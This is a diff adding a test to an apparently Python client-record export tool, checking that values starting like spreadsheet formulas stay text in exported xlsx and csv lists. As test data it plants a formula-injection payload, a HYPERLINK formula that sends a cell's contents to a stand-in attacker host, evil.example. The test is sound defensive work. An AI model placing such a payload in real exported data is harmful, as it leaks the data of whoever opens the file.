@@ -156,3 +156,35 @@ def test_a_wrong_target_is_refused_and_nothing_is_written(tmp_path: Path, name: 
     assert len(result.output.strip().splitlines()) == 1
     assert sha(path) == before
     assert sorted(p.name for p in tmp_path.iterdir()) == ["clients.xlsx"]
+
+
+def test_text_that_would_start_a_formula_stays_text_in_every_list(tmp_path: Path) -> None:
+    """A name typed as =HYPERLINK(…) (as text, imported from a CSV) must not become a link in the list a manager
+    opens: in the .xlsx files it is a text cell, in the .csv files it starts with an apostrophe, which Excel and
+    LibreOffice read as "text". A phone's "+7" and an ordinary name are written as they are."""
+    records = valid_records("ru")
+    records["clients"][0]["name"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    records["clients"][1]["company"] = "@SUM(1+1)"
+    path = write_records(tmp_path / "clients.xlsx", "ru", records)
+    book = openpyxl.load_workbook(path)
+    book["Клиенты"]["B2"].data_type = "s"  # text, as an import or a typist with ' before it leaves it
+    book.save(path)
+    written = {name: tmp_path / name for name in ("mailing.xlsx", "mailing.csv", "segment.xlsx", "segment.csv")}
+    export_workbook(path, mailing=written["mailing.xlsx"], today=TODAY)
+    export_workbook(path, mailing=written["mailing.csv"], today=TODAY)
+    segment = ["export", str(path), "--segment", "block >= 1", "--columns", "name,company,phone", "--no-consent-check"]
+    result = CliRunner().invoke(
+        cli, [*segment, "--xlsx", str(written["segment.xlsx"]), "--csv", str(written["segment.csv"])]
+    )
+    assert result.exit_code == 0, result.output
+
+    for name in ("mailing.xlsx", "segment.xlsx"):
+        sheet = openpyxl.load_workbook(written[name]).active
+        assert sheet is not None
+        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+        assert {cell.data_type for cell in cells} <= {"s", "n", "d"}, name
+        assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in [cell.value for cell in cells]
+    for name in ("mailing.csv", "segment.csv"):
+        texts = [text for row in read_csv(written[name]) for text in row]
+        assert """'=HYPERLINK("http://evil.example/?"&A1,"click")""" in texts and "'@SUM(1+1)" in texts, name
+        assert "+7 916 123-45-67" in texts and "Olga Sidorova" in texts, name
